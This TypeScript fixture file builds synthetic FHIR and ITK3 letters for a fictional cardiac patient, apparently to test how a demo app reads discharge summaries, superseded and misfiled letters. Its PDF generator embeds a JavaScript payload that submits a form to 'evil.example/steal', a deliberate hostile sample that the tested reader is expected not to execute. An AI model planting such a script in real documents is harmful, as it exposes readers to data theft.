/**
 * Mr Edward Hale, discharged after a heart attack, and his letters on the shared record, written for the
 * demo (no published document is copied; the ITK3 one follows the published examples' structure):
 * - an ITK3 (FHIR STU3) discharge summary, XML inline in a DocumentReference, asking two things of the
 *   GP, one of the patient, and with three medicine changes (two added, one stopped); it replaces
 * - the first version of the same summary, still current on the server, whose request must never show;
 * - a UK Core R4 Composition (a cardiology clinic letter), its sections coded with the
 *   UKCore-RecordStandardHeadings strings;
 * - a PDF diabetes clinic letter with a text layer (made with pdf-lib), held at a Binary on the server
 *   (one more request to fetch it), with a script in it that must never run;
 * - an HTML letter older than the trust's window (its plan is history, not a highlight);
 * - a letter filed under him but about another patient (its NHS number says so): dropped and counted.
 * Dates are relative to the sandbox's today.
 */
import type { Binary, Composition, DocumentReference, Patient, Resource } from '@medplum/fhirtypes';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { NHS_NUMBER_SYSTEM } from '../../utils/shared/nhs-number';
import { ORGS, PEOPLE } from './organisations';

export const LETTERS_PATIENT_ID = 'uk-edward-hale';
export const LETTERS_PDF_BINARY_ID = 'bin-edward-hale-diabetes-letter';

const DAY = 86_400_000;
const SCT = 'http://snomed.info/sct';
const HEADINGS = 'https://fhir.hl7.org.uk/CodeSystem/UKCore-RecordStandardHeadings';
const LOINC_TYPES = 'http://snomed.info/sct';

/** What the letters ask and change, as the demo and the tests expect to see them. */
export const LETTERS_EXPECTED = {
  dischargeActions: [
    'GP please continue secondary preventative medication for at least twelve months.',
    'Please check renal function and potassium one week after starting ramipril.',
  ],
  supersededAction: 'GP please stop aspirin and start prasugrel.',
  patientAction: 'Attend the cardiac rehabilitation programme from next week.',
  clinicAction: 'Please arrange an echocardiogram in six weeks.',
  pdfActions: ['Increase metformin to 1 g twice daily.', 'Repeat HbA1c in three months.'],
  oldAction: 'Review in the heart failure clinic.',
  misfiledAction: 'Please refer to the memory clinic.',
  misfiledTextAction: 'Please stop warfarin before the procedure.',
  medicineChanges: [
    { change: 'added', medicine: 'Clopidogrel 75mg tablets' },
    { change: 'added', medicine: 'Ramipril 2.5mg capsules' },
    { change: 'stopped', medicine: 'Ibuprofen 400mg tablets' },
  ],
} as const;

const xml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

/** An ITK3 discharge summary (STU3 document Bundle, XML). */
function itkDischargeSummary(p: { nhs: string; given: string; family: string; birthDate: string; date: string; identifier: string; replaces?: string; actions: readonly string[]; medicines: boolean }): string {
  const statement = (id: string, medId: string, name: string, code: string, change: 'Added' | 'stopped', dose: string) => `
  <entry><fullUrl value="urn:uuid:${id}"/><resource><MedicationStatement>
    ${change === 'Added' ? `<extension url="https://fhir.hl7.org.uk/STU3/StructureDefinition/Extension-CareConnect-MedicationChangeSummary-1"><extension url="status"><valueCode value="Added"/></extension><extension url="dateChanged"><valueDateTime value="${p.date.slice(0, 10)}"/></extension></extension>` : ''}
    <status value="${change === 'stopped' ? 'stopped' : 'active'}"/>
    <medicationReference><reference value="urn:uuid:${medId}"/></medicationReference>
    <subject><reference value="urn:uuid:patient"/></subject>
    <taken value="${change === 'stopped' ? 'n' : 'y'}"/>
    <dosage><text value="${xml(dose)}"/></dosage>
  </MedicationStatement></resource></entry>
  <entry><fullUrl value="urn:uuid:${medId}"/><resource><Medication><code><coding><system value="https://dmd.nhs.uk"/><code value="${code}"/><display value="${xml(name)}"/></coding></code></Medication></resource></entry>`;
  const actionCell = p.actions.map((a) => `<p>${xml(a)}</p><p>Status: Requested</p>`).join('');
  return `<?xml version="1.0" encoding="UTF-8"?>
<Bundle xmlns="http://hl7.org/fhir">
  <identifier><system value="https://tools.ietf.org/html/rfc4122"/><value value="${p.identifier}-bundle"/></identifier>
  <type value="document"/>
  <entry><fullUrl value="urn:uuid:composition"/><resource><Composition>
    <identifier><system value="https://tools.ietf.org/html/rfc4122"/><value value="${p.identifier}"/></identifier>
    <status value="final"/>
    <type><coding><system value="${SCT}"/><code value="373942005"/><display value="Discharge summary"/></coding></type>
    <subject><reference value="urn:uuid:patient"/></subject>
    <date value="${p.date}"/>
    <author><reference value="urn:uuid:hospital"/></author>
    <title value="Cardiology discharge summary"/>
    ${p.replaces ? `<relatesTo><code value="replaces"/><targetIdentifier><system value="https://tools.ietf.org/html/rfc4122"/><value value="${p.replaces}"/></targetIdentifier></relatesTo>` : ''}
    <custodian><reference value="urn:uuid:hospital"/></custodian>
    <section><title value="Diagnoses"/><code><coding><system value="${SCT}"/><code value="887161000000102"/><display value="Diagnoses"/></coding></code>
      <text><status value="additional"/><div xmlns="http://www.w3.org/1999/xhtml"><table><tbody><tr><th>Primary diagnosis</th><td>Non-ST elevation myocardial infarction</td></tr></tbody></table></div></text></section>
    <section><title value="Plan and requested actions"/><code><coding><system value="${SCT}"/><code value="887201000000105"/><display value="Plan and requested actions"/></coding></code>
      <text><status value="additional"/><div xmlns="http://www.w3.org/1999/xhtml"><table width="100%"><tbody>
        <tr><th>Actions for healthcare professionals</th><td>${actionCell}</td></tr>
        <tr><th>Actions for patient or their carer</th><td>${xml(LETTERS_EXPECTED.patientAction)}</td></tr>
        <tr><th>Agreed with patient or legitimate patient representative</th><td>Patient agreed not to drive for four weeks.</td></tr>
      </tbody></table></div></text></section>
    ${p.medicines ? `<section><title value="Medications and medical devices"/><code><coding><system value="${SCT}"/><code value="933361000000108"/><display value="Medications and medical devices"/></coding></code>
      <text><status value="additional"/><div xmlns="http://www.w3.org/1999/xhtml"><p>See the medication changes below.</p></div></text>
      <entry><reference value="urn:uuid:ms-1"/></entry><entry><reference value="urn:uuid:ms-2"/></entry><entry><reference value="urn:uuid:ms-3"/></entry></section>` : ''}
  </Composition></resource></entry>
  <entry><fullUrl value="urn:uuid:patient"/><resource><Patient>
    <identifier><system value="${NHS_NUMBER_SYSTEM}"/><value value="${p.nhs}"/></identifier>
    <name><use value="official"/><family value="${xml(p.family)}"/><given value="${xml(p.given)}"/></name>
    <birthDate value="${p.birthDate}"/>
  </Patient></resource></entry>
  <entry><fullUrl value="urn:uuid:hospital"/><resource><Organization><name value="${xml(ORGS.hospital.name!)}"/></Organization></resource></entry>
  ${
    p.medicines
      ? statement('ms-1', 'med-1', LETTERS_EXPECTED.medicineChanges[0].medicine, '40990611000001106', 'Added', 'One tablet daily for twelve months.') +
        statement('ms-2', 'med-2', LETTERS_EXPECTED.medicineChanges[1].medicine, '318900005', 'Added', 'One capsule daily.') +
        statement('ms-3', 'med-3', LETTERS_EXPECTED.medicineChanges[2].medicine, '329652003', 'stopped', 'Stopped: avoid after myocardial infarction.')
      : ''
  }
</Bundle>`;
}

/** A UK Core R4 Composition: a cardiology clinic letter, on the server as a resource of its own. */
function clinicComposition(patientId: string, date: string): Composition {
  const section = (code: string, title: string, div: string) => ({
    title,
    code: { coding: [{ system: HEADINGS, code, display: title }] },
    text: { status: 'generated' as const, div: `<div xmlns="http://www.w3.org/1999/xhtml">${div}</div>` },
  });
  return {
    resourceType: 'Composition',
    id: 'comp-edward-hale-cardiology',
    meta: { profile: ['https://fhir.hl7.org.uk/StructureDefinition/UKCore-Composition'] },
    identifier: { system: 'https://tools.ietf.org/html/rfc4122', value: 'ngh-cardiology-clinic-edward-hale' },
    status: 'final',
    type: { coding: [{ system: LOINC_TYPES, code: '371531000', display: 'Outpatient letter' }] },
    subject: { reference: `Patient/${patientId}` },
    date,
    author: [{ reference: `Organization/${ORGS.hospital.id}`, display: ORGS.hospital.name }],
    custodian: { reference: `Organization/${ORGS.hospital.id}`, display: ORGS.hospital.name },
    title: 'Cardiology clinic letter',
    section: [
      section('clinical-summary', 'Clinical summary', '<p>Seen in the cardiology clinic two weeks after his myocardial infarction. No chest pain since discharge.</p>'),
      section(
        'plan-and-requested-actions',
        'Plan and requested actions',
        `<table><tbody><tr><th>Actions for healthcare professionals</th><td><p>${xml(LETTERS_EXPECTED.clinicAction)}</p><p>Status: Requested</p></td></tr>` +
          '<tr><th>Actions for patient or their carer</th><td>Keep a diary of any breathlessness.</td></tr></tbody></table>',
      ),
      section('information-and-advice-given', 'Information and advice given', '<p>Advised on a Mediterranean diet.</p>'),
    ],
  };
}

/** The PDF letter's lines, as a clinician would write them. */
const PDF_LINES = [
  'Diabetes Centre, Northshire General Hospital NHS Trust',
  'Diabetes clinic letter',
  'Dear Dr Carter,',
  'I saw Mr Hale in the diabetes clinic today. His HbA1c is 64 mmol/mol.',
  '',
  'Actions for GP',
  `1. ${LETTERS_EXPECTED.pdfActions[0]}`,
  `2. ${LETTERS_EXPECTED.pdfActions[1]}`,
  '',
  'Information given',
  'We talked about foot care.',
  '',
  'Yours sincerely,',
  'Mr Amir Hussain, Diabetes specialist nurse',
];

/**
 * The PDF letter, made with pdf-lib: a text layer, one line a line, and a document script (which no
 * reader of Alongside's may ever run).
 * @param now - the sandbox's today (the PDF's dates)
 */
export async function diabetesLetterPdf(now: Date): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.setCreationDate(now);
  doc.setModificationDate(now);
  doc.setTitle('Diabetes clinic letter');
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const bold = await doc.embedFont(StandardFonts.HelveticaBold);
  const page = doc.addPage([595, 842]);
  let y = 780;
  for (const line of PDF_LINES) {
    const heading = line === 'Actions for GP' || line === 'Information given';
    if (line) page.drawText(line, { x: 56, y, size: 11, font: heading ? bold : font });
    y -= line ? 16 : 10;
  }
  page.drawText('Page 1 of 1', { x: 270, y: 40, size: 9, font });
  doc.addJavaScript('alongside-payload', 'app.alert("a script in a PDF letter ran"); this.submitForm("https://evil.example/steal");');
  return doc.save();
}

/**
 * Mr Hale's Patient and his letters (all but the PDF's bytes: {@link letterPdfBinary}).
 * @param nhs - his NHS number
 * @param birthDate - his date of birth
 * @param otherNhs - another valid NHS number (the misfiled letter's patient)
 * @param now - the sandbox's today
 */
export function lettersRecord(nhs: string, birthDate: string, otherNhs: string, now: Date): { patient: Patient; resources: Resource[] } {
  const at = (days: number) => new Date(now.getTime() - days * DAY).toISOString();
  const subject = { reference: `Patient/${LETTERS_PATIENT_ID}` };
  const hospital = { reference: `Organization/${ORGS.hospital.id}` };
  const patient: Patient = {
    resourceType: 'Patient',
    id: LETTERS_PATIENT_ID,
    identifier: [{ system: NHS_NUMBER_SYSTEM, value: nhs, extension: [{ url: 'https://fhir.hl7.org.uk/StructureDefinition/Extension-UKCore-NHSNumberVerificationStatus', valueCodeableConcept: { coding: [{ system: 'https://fhir.hl7.org.uk/CodeSystem/UKCore-NHSNumberVerificationStatusEngland', code: '01', display: 'Number present and verified' }] } }] }],
    name: [{ use: 'official', family: 'Hale', given: ['Edward'], prefix: ['Mr'] }],
    gender: 'male',
    birthDate,
    address: [{ use: 'home', line: ['9 Mill Lane'], city: 'Northshire', postalCode: 'NS4 1RT', country: 'GB' }],
    generalPractitioner: [{ reference: `Organization/${ORGS.gp.id}` }, { reference: `Practitioner/${PEOPLE.gp.id}` }],
    managingOrganization: { reference: `Organization/${ORGS.gp.id}` },
  };
  const dischargeType = { coding: [{ system: SCT, code: '373942005', display: 'Discharge summary' }] };
  const who = { nhs, given: 'Edward', family: 'Hale', birthDate };
  const letter = (id: string, days: number, type: DocumentReference['type'], attachment: NonNullable<DocumentReference['content']>[number]['attachment'], extra: Partial<DocumentReference> = {}): DocumentReference => ({
    resourceType: 'DocumentReference',
    id,
    status: 'current',
    type,
    subject,
    date: at(days),
    author: [hospital],
    custodian: hospital,
    content: [{ attachment }],
    ...extra,
  });
  const resources: Resource[] = [
    letter('dr-edward-hale-discharge-1', 5, dischargeType, {
      contentType: 'application/fhir+xml',
      data: base64(itkDischargeSummary({ ...who, date: at(5), identifier: 'ngh-ds-edward-hale-v1', actions: [LETTERS_EXPECTED.supersededAction], medicines: false })),
    }),
    letter(
      'dr-edward-hale-discharge-2',
      4,
      dischargeType,
      {
        contentType: 'application/fhir+xml',
        data: base64(itkDischargeSummary({ ...who, date: at(4), identifier: 'ngh-ds-edward-hale-v2', replaces: 'ngh-ds-edward-hale-v1', actions: LETTERS_EXPECTED.dischargeActions, medicines: true })),
      },
      { relatesTo: [{ code: 'replaces', target: { reference: 'DocumentReference/dr-edward-hale-discharge-1' } }] },
    ),
    clinicComposition(LETTERS_PATIENT_ID, at(2)),
    letter('dr-edward-hale-diabetes-pdf', 10, { coding: [{ system: SCT, code: '371531000', display: 'Outpatient letter' }] }, {
      contentType: 'application/pdf',
      url: `Binary/${LETTERS_PDF_BINARY_ID}`,
      title: 'Diabetes clinic letter',
    }),
    letter('dr-edward-hale-old-clinic', 200, { text: 'Clinic letter' }, {
      contentType: 'text/html',
      data: base64(`<html><body><h1>Heart failure clinic</h1><h2>Plan</h2><p>${LETTERS_EXPECTED.oldAction}</p></body></html>`),
    }),
    // Filed under him by mistake: the letter itself is about someone else.
    letter('dr-edward-hale-misfiled', 3, dischargeType, {
      contentType: 'application/fhir+xml',
      data: base64(itkDischargeSummary({ nhs: otherNhs, given: 'Edwina', family: 'Hales', birthDate: '1950-02-02', date: at(3), identifier: 'ngh-ds-edwina-hales', actions: [LETTERS_EXPECTED.misfiledAction], medicines: false })),
    }),
    // A text letter filed under him whose words name someone else's NHS number.
    letter('dr-edward-hale-misfiled-text', 2, { text: 'Clinic letter' }, {
      contentType: 'text/plain',
      data: base64(`Anticoagulation clinic letter\nRe: Edwina Hales, NHS number: ${otherNhs.slice(0, 3)} ${otherNhs.slice(3, 6)} ${otherNhs.slice(6)}\n\nActions for GP\n- ${LETTERS_EXPECTED.misfiledTextAction}`),
    }),
    // His GP's older record of a medicine the discharge summary stopped: no longer shown as current.
    {
      resourceType: 'MedicationStatement',
      id: 'ms-edward-hale-ibuprofen',
      status: 'active',
      subject,
      medicationCodeableConcept: { text: 'Ibuprofen 400mg tablets' },
      effectiveDateTime: at(60),
      dosage: [{ text: 'One tablet three times a day when needed' }],
    },
  ];
  return { patient, resources };
}

/** The PDF letter as the Binary its DocumentReference points at. */
export async function letterPdfBinary(now: Date): Promise<Binary> {
  return { resourceType: 'Binary', id: LETTERS_PDF_BINARY_ID, contentType: 'application/pdf', data: Buffer.from(await diabetesLetterPdf(now)).toString('base64') };
}
